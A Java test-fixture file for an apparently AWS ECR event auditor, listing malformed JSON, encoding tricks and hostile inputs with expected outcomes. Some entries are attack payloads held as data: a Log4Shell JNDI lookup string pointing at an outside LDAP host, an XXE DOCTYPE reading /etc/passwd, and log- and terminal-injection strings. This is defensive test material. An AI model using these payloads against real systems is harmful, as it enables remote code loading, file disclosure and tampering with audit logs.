package dev.ecrauditor.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.nio.charset.Charset;
import java.util.List;
import java.util.stream.Stream;

/** Inputs that are not quite JSON, not quite UTF-8, or say two things. */
final class MalformedTextInputs {

    private static final String GOOD = HostileEvent.good().text();

    private MalformedTextInputs() {}

    static Stream<HostileInput> inputs() {
        return Stream.of(duplicates(), notQuiteJson(), notQuiteValues(), encodings(), characters())
                .flatMap(List::stream);
    }

    private static List<HostileInput> duplicates() {
        String policy = "\"{\\\"Statement\\\":[],\\\"Statement\\\":[{}]}\"";
        HostileEvent good = HostileEvent.good();
        return List.of(
                good.beginning("\"account\":\"444455556666\"").input("two accounts", "FAILED"),
                good.beginning("\"\\u0061ccount\":\"444455556666\"").input("two accounts, one escaped", "FAILED"),
                good.beginning("\"source\":\"aws.ecr\"").input("the same source twice", "FAILED"),
                good.beginning("\"eventName\":\"DeleteRepository\"", "detail").input("two event names", "FAILED"),
                good.beginning("\"arn\":\"x\"", "detail", "userIdentity").input("two actors", "FAILED"),
                good.beginning("\"repositoryName\":\"x/y\"", "detail", "requestParameters")
                        .input("two names", "FAILED"),
                good.with("detail.resources.0", "{\"ARN\":\"x\",\"ARN\":\"x\"}").input("two ARNs", "FAILED"),
                good.with("detail.requestParameters.policyText", policy).input("a policy with two lists", "RECORDED"),
                good.with("detail.responseElements.policyText", policy).input("an answer with two lists", "RECORDED"));
    }

    private static List<HostileInput> notQuiteJson() {
        return List.of(
                HostileInput.of("something after it", GOOD + "x", "FAILED"),
                HostileInput.of("a brace after it", GOOD + "}", "FAILED"),
                HostileInput.of("a comma after it", GOOD + ",", "FAILED"),
                HostileInput.of("NUL after it", GOOD + "\u0000", "FAILED"),
                HostileInput.of("a line break after it", GOOD + "\r\n", "RECORDED"),
                HostileInput.of("two events", GOOD + GOOD, "FAILED"),
                HostileInput.of("two events on two lines", GOOD + "\n" + GOOD, "FAILED"),
                HostileInput.of("a list of events", "[" + GOOD + "," + GOOD + "]", "FAILED"),
                HostileInput.of("an event in a string", "\"" + GOOD.replace("\"", "'") + "\"", "FAILED"),
                HostileInput.of("half an event", GOOD.substring(0, GOOD.length() / 2), "FAILED"),
                HostileInput.of("all but the last brace", GOOD.substring(0, GOOD.length() - 1), "FAILED"),
                HostileInput.of("single quotes", "{'source': 'aws.ecr'}", "FAILED"),
                HostileInput.of("names without quotes", "{source: \"aws.ecr\"}", "FAILED"),
                HostileInput.of("a comma too many", "{\"source\": \"aws.ecr\",}", "FAILED"),
                HostileInput.of("a comment before it", "// an event\n" + GOOD, "FAILED"),
                HostileInput.of("a hash comment before it", "# an event\n" + GOOD, "FAILED"),
                HostileInput.of("YAML", "source: aws.ecr\ndetail: {}\n", "FAILED"),
                HostileInput.of("XML", "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>", "FAILED"),
                HostileInput.of("a query string", "source=aws.ecr&account=111122223333", "FAILED"),
                HostileInput.of("a template", "${jndi:ldap://198.51.100.7/x}", "FAILED"));
    }

    private static List<HostileInput> notQuiteValues() {
        return List.of(
                version("/* none */ 0", "FAILED"),
                version("NaN", "FAILED"),
                version("-Infinity", "FAILED"),
                version("0x10", "FAILED"),
                version("007", "FAILED"),
                version("+1", "FAILED"),
                version(".5", "FAILED"),
                version("1.", "FAILED"),
                version("1e", "FAILED"),
                version("undefined", "FAILED"),
                version("True", "FAILED"),
                version("\"\\x41\"", "FAILED"),
                version("\"\\u00g0\"", "FAILED"),
                version("\"\\", "FAILED"),
                version("'0'", "FAILED"),
                version("1e999999999", "RECORDED"),
                version("-1e-999999999", "RECORDED"),
                version("9".repeat(900), "RECORDED"),
                version("9".repeat(2_000), "FAILED"));
    }

    private static List<HostileInput> encodings() {
        return List.of(
                encoded("a byte order mark", "\uFEFF" + GOOD, UTF_8, "FAILED"),
                encoded("UTF-16 with a byte order mark", GOOD, UTF_16, "FAILED"),
                encoded("UTF-16, big end first", GOOD, UTF_16BE, "FAILED"),
                encoded("UTF-16, little end first", GOOD, UTF_16LE, "FAILED"),
                encoded("UTF-32", GOOD, Charset.forName("UTF-32BE"), "FAILED"),
                encoded(
                        "Latin 1 in a name",
                        HostileEvent.named("gr\u00fc\u00dfe").text(),
                        ISO_8859_1,
                        "FAILED"),
                encoded(
                        "bytes UTF-8 does not have",
                        HostileEvent.named("a\u00ff\u00feb").text(),
                        ISO_8859_1,
                        "FAILED"),
                encoded(
                        "a slash in two bytes",
                        HostileEvent.named("a\u00c0\u00afb").text(),
                        ISO_8859_1,
                        "FAILED"),
                encoded("NUL in two bytes", HostileEvent.named("a\u00c0\u0080b").text(), ISO_8859_1, "FAILED"),
                encoded(
                        "surrogates as UTF-8",
                        HostileEvent.named("\u00ed\u00a0\u0080").text(),
                        ISO_8859_1,
                        "FAILED"),
                encoded(
                        "a character cut in two",
                        HostileEvent.named("a\u00f0\u009f").text(),
                        ISO_8859_1,
                        "FAILED"),
                encoded(
                        "bytes UTF-8 does not have, where nobody looks",
                        HostileEvent.good().with("version", "\"\u00ff\"").text(),
                        ISO_8859_1,
                        "RECORDED"));
    }

    private static List<HostileInput> characters() {
        return List.of(
                HostileEvent.named("\\ud800").input("half a surrogate pair for a name", "FAILED"),
                HostileEvent.named("payments/api\\ud83d").input("half a surrogate pair after a name", "FAILED"),
                HostileEvent.named("payments/api\\u0000").input("NUL after a name", "FAILED"),
                HostileEvent.named("payments\u0000/api").input("a bare NUL in a name", "FAILED"),
                version("\"\u0001\"", "FAILED"),
                version("\"a\nb\"", "FAILED"),
                text("detail.userIdentity.arn", "\\udc00\\ud800", "RECORDED"),
                text("detail.eventName", "\\ud800", "IGNORED NO_RULE_APPLIES"),
                text("detail.eventID", "a\\nERROR\\r\\u2028\\u001b[2J\\u202e\\u007f", "RECORDED"),
                text("detail.eventName", "\\r\\n{\\\"outcome\\\":\\\"ALERTED\\\"}", "IGNORED NO_RULE_APPLIES"),
                text("detail.userAgent", "${jndi:ldap://198.51.100.7/x}", "RECORDED"),
                text("account", "111122223333\\n", "FAILED"));
    }

    private static HostileInput version(String raw, String ends) {
        String shown = raw.length() > 20 ? raw.length() + " characters" : raw;
        return HostileEvent.good().with("version", raw).input("a field nobody knows is " + shown, ends);
    }

    private static HostileInput text(String path, String escaped, String ends) {
        return HostileEvent.good().with(path, "\"" + escaped + "\"").input(path + " is " + escaped, ends);
    }

    private static HostileInput encoded(String name, String text, Charset charset, String ends) {
        return new HostileInput(name, text, charset, ends);
    }
}
